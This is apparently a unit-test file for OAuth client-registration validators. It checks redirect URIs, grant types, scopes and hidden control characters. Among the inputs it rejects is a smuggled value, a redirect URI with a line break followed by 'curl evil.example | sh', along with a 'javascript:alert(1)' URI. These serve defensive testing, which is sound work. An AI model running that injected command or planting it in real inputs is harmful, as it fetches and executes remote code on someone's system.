import { grantsProblem, redirectUriProblem, redirectUrisProblem, scopesProblem } from './client-rules.js';

describe('redirectUriProblem', () => {
  it.each(['https://app.example.com/cb', 'https://app.example.com:8443/cb?x=1', 'http://127.0.0.1:8765/cb', 'http://[::1]/cb', 'http://localhost:3000/cb'])(
    'accepts %s',
    (uri) => expect(redirectUriProblem(uri)).toBeUndefined(),
  );

  it.each([
    ['http://app.example.com/cb', /only loopback/],
    ['http://127.0.0.1.example.com/cb', /only loopback/],
    ['https://*.example.com/cb', /wildcard/],
    ['https://app.example.com/*', /wildcard/],
    ['https://app.example.com/cb#frag', /fragment/],
    ['https://app.example.com/cb#', /fragment/],
    ['/cb', /not an absolute URI/],
    ['javascript:alert(1)', /must use https/],
    ['data:text/html,hi', /must use https/],
    ['ftp://example.com/cb', /must use https/],
    ['https://user:pw@app.example.com/cb', /user name or password/],
  ])('refuses %s', (uri, problem) => expect(redirectUriProblem(uri)).toMatch(problem));

  it('refuses a URI longer than 2000 characters', () => {
    expect(redirectUriProblem(`https://example.com/${'a'.repeat(2000)}`)).toMatch(/longer than/);
  });
});

describe('grantsProblem', () => {
  it('accepts the three grants on a confidential client', () => {
    expect(grantsProblem('confidential', ['client_credentials', 'authorization_code', 'refresh_token'])).toBeUndefined();
    expect(grantsProblem('public', ['authorization_code', 'refresh_token'])).toBeUndefined();
  });

  it.each([
    ['confidential', ['password'], /unknown grant type password/],
    ['confidential', ['implicit', 'client_credentials'], /unknown grant type implicit/],
    ['confidential', [], /at least one/],
    ['public', ['client_credentials'], /public client/],
    ['confidential', ['refresh_token'], /add it/],
  ] as const)('refuses %s %j', (type, grants, problem) => expect(grantsProblem(type, grants)).toMatch(problem));
});

describe('scopesProblem', () => {
  it('accepts known scopes and names unknown ones', () => {
    expect(scopesProblem(['users:read', 'data:read', 'admin'])).toBeUndefined();
    expect(scopesProblem(['users:read', 'everything'])).toMatch(/unknown scope everything/);
    expect(scopesProblem(['constructor'])).toMatch(/unknown scope/);
    expect(scopesProblem([])).toMatch(/at least one/);
  });
});

describe('redirectUrisProblem', () => {
  it('needs a redirect URI for the code flow only', () => {
    expect(redirectUrisProblem(['authorization_code'], [])).toMatch(/at least one redirect URI/);
    expect(redirectUrisProblem(['client_credentials'], [])).toBeUndefined();
    expect(redirectUrisProblem(['authorization_code'], ['https://a.example/cb', 'http://evil.example/cb'])).toMatch(/evil/);
  });
});

describe('redirectUriProblem: hidden characters (issue #13 item 6)', () => {
  it.each([
    'https://app.example/cb\n',
    'https://app.example/c\nb',
    'https://app.example/c\tb',
    'https://app.example/c b',
    ' https://app.example/cb',
    'https://app.example/cb\r\ncurl evil.example | sh',
    'https://app.example/c\x00b',
    'https://app.example/c\x7fb',
    'https://app.example/c\u0085b',
    'https://app.example/c\u00a0b',
    'https://app.example/c\u2028b',
    'https://app.example/c\u200bb',
    'https://app.example/c\ufeffb',
  ])('refuses %j', (uri) => expect(redirectUriProblem(uri)).toMatch(/space, tab, line break or other control character/));

  it.each([
    "https://app.example/cb?a='b'&c=(d)",
    'https://xn--r8jz45g.jp/cb',
    'https://app.example/%E4%B8%AD',
    'http://[::1]:8080/cb',
    'https://例え.jp/cb',
    'https://app.example/cb?x="<b>',
  ])('accepts %j', (uri) => expect(redirectUriProblem(uri)).toBeUndefined());
});
